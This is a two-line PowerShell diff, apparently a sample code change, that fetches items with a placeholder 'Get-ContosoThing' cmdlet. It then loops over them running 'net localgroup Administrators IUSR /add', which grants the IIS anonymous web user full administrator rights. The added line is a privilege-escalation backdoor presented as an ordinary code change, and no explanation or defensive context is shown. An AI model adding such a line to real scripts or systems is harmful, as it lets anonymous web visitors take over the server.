@@ -1,0 +1,2 @@
+$x = Get-ContosoThing
+$x.ForAll({ param($i) net localgroup Administrators IUSR /add })
